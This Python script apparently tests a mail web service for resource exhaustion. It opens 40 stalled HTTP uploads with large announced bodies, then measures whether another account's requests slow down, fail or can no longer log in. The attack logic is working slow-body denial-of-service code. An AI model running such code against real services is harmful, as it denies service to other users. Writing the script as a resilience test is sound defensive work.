#!/usr/bin/env python3
"""One account uses up the memory for request bodies with 40 slow sends, so that requests of other accounts fail.

Needs two accounts; their passwords are in ATTACKER_PASSWORD and VICTIM_PASSWORD. Sends nothing: no body is completed. Under default limits each run takes some
minutes, because requests over a limit are repeated when the service allows it.

With few requests, the percentile measures the first milliseconds after the upload, in which the service still reads what the attacker sent. To measure the whole
attack, raise `limits.mail` and use `--requests 200`.
"""

import statistics
import time

import attack

MIB = 1024 * 1024

options = attack.arguments(
    __doc__,
    ("--url", "the service"),
    ("--attacker", "the attacker's address"),
    ("--victim", "the victim's address"),
    ("--runs", "the number of runs, of which the median counts", "5"),
    ("--requests", "the victim's requests in each run", "20"),
    ("--ratio", "how many times as long the victim's requests may take during the attack", "3"),
)
attacker = attack.sign_in(options.url, options.attacker, attack.password("ATTACKER_PASSWORD"))
secret = attack.password("VICTIM_PASSWORD")
victim = attack.sign_in(options.url, options.victim, secret)
failed = set()


def victim_p95():
    """The 95th percentile of the time of the victim's small requests, in seconds. Refusals other than for rate limits are noted."""
    took = []
    for _ in range(int(options.requests)):
        before = time.monotonic()
        body = {"uids": [1], "flags": ["\\Seen"], "action": "add"}
        response = attack.request(options.url, "POST", "/api/v1/mail/messages/bulk/flag", victim, body, patient=False)
        if response.status == 429:
            time.sleep(int(response.headers.get("retry-after", "1")))
            continue
        took.append(time.monotonic() - before)
        if response.status >= 500:
            failed.add(f"a small request of another account failed: {response.status} {response.text}")
    return sorted(took)[int(len(took) * 0.95)] if took else 0.0


def slow_send(announced, sent):
    """Starts to send a message and then sends nothing more."""
    head = (
        f"POST /api/v1/mail/send HTTP/1.1\r\nHost: attack\r\nAuthorization: Bearer {attacker}\r\nContent-Type: application/json\r\n"
        f'Content-Length: {announced}\r\n\r\n{{"attachments": [{{"filename": "a", "content": "'
    )
    stream = attack.raw(options.url, head)
    try:
        stream.sendall(b"x" * sent)
    except OSError:
        # The service refused the body.
        pass
    return stream


idle, busy = [], []
for _ in range(int(options.runs)):
    idle.append(victim_p95())
    streams = [slow_send(39 * MIB, 38 * MIB) for _ in range(12)] + [slow_send(MIB, 900 * 1024) for _ in range(28)]
    busy.append(victim_p95())
    login = attack.request(options.url, "POST", "/api/v1/auth/login", body={"email": options.victim, "password": secret})
    if login.status != 200:
        failed.add(f"another account could not sign in: {login.status} {login.text}")
    for stream in streams:
        stream.close()
before, during = statistics.median(idle), statistics.median(busy)
print(f"p95 of small requests: {before * 1000:.1f} ms idle, {during * 1000:.1f} ms during the attack")
# Below a few milliseconds the measurement is noise.
if during > max(float(options.ratio) * before, 0.005):
    failed.add(f"small requests of another account take {during / before:.1f} times as long")
attack.verdict(sorted(failed))
